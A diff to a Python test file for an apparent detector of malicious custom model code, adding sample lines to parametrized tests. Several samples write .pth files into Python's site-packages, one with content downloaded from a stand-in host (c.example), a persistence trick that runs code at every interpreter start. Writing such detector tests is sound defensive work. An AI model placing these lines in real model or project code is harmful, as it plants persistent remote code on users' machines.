@@ -7,7 +7,7 @@ from tests.samples import inspect_tree
 
 CONFIG = b'{"auto_map": {"AutoModel": "modeling_x.M"}}'
 CODE = (
-    "import os, shutil, requests\nfrom urllib import request, parse\nfrom transformers import PreTrainedModel\n"
+    "import os, shutil, sys, requests\nfrom urllib import request, parse\nfrom transformers import PreTrainedModel\n"
     "class M(PreTrainedModel):\n    def forward(self, text):\n        {}\n        return text\n"
 )
 
@@ -35,6 +35,9 @@ def denied(line: str) -> bool:
         "shutil.copy('run.pth', 'C:/Python311/run.pth')",
         "os.chdir(os.path.dirname(os.__file__)); open('run.pth', 'w').write('import os')",
         "open('C:/Python311/run.pth', 'w').write('import os')",
+        "open(os.path.join(sys.path[-1], 'w.pth'), 'wb').write(requests.get('https://c.example/w').content)",
+        "open(os.path.join([p for p in sys.path if 'pack' in p][0], 'w.pth'), 'wb').write(b'')",
+        "open(os.path.join(os.path.dirname(os.path.dirname(requests.__file__)), 'w.pth'), 'wb').write(b'')",
     ],
 )
 def test_given_away(line: str) -> None:
@@ -52,6 +55,9 @@ def test_given_away(line: str) -> None:
         "x = requests.get('https://c.example/' + VERSION).content",
         "open('README.md', 'w').write('x')",
         "shutil.copy('model.pth', '/content/run/model.pth')",
+        "open(os.path.join(self.folder, 'w.pth'), 'wb').write(requests.get('https://c.example/w').content)",
+        "open(os.path.expanduser('~/.cache/x/w.pth'), 'wb').write(requests.get('https://c.example/w').content)",
+        "open('w.pth', 'wb').write(requests.get('https://c.example/w').content)",
     ],
 )
 def test_fetched(line: str) -> None:
